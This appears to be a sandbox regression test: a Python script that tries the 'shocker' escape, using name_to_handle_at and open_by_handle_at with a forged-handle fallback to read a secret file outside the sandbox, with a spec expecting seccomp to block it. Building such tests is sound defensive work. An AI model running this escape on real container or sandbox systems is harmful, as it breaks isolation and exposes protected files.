"""The "shocker" escape: name_to_handle_at on a file outside, then
open_by_handle_at through a descriptor of the working directory's mount,
which opens by inode and skips every path check. Print the secret.

{
  "policy": {"version": 1, "native": {"ctypes": true}},
  "args": ["OUTSIDE/secret.txt"],
  "setup": {"files": {"OUTSIDE/secret.txt": "SECRET-TOKEN"}},
  "oracle": {"stdout_lacks": "SECRET-TOKEN"},
  "expect": {"status": "ok",
             "events": [{"layer": "seccomp", "syscall": "open_by_handle_at", "rule": "system", "bypass": true}]}
}
"""
import ctypes
import os
import sys

libc = ctypes.CDLL(None, use_errno=True)


class FileHandle(ctypes.Structure):
    _fields_ = [("handle_bytes", ctypes.c_uint), ("handle_type", ctypes.c_int),
                ("f_handle", ctypes.c_ubyte * 128)]


fh = FileHandle(128, 0)
mount_id = ctypes.c_int()
r = libc.name_to_handle_at(-100, sys.argv[1].encode(), ctypes.byref(fh), ctypes.byref(mount_id), 0)
if r != 0:
    # Without the handle (refused), forge one: the kernel decides anyway.
    print("name_to_handle_at refused:", os.strerror(ctypes.get_errno()))
    fh = FileHandle(8, 1)
mfd = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
fd = libc.open_by_handle_at(mfd, ctypes.byref(fh), os.O_RDONLY)
if fd < 0:
    print("open_by_handle_at refused:", os.strerror(ctypes.get_errno()))
else:
    print(os.read(fd, 4096).decode(errors="replace"))
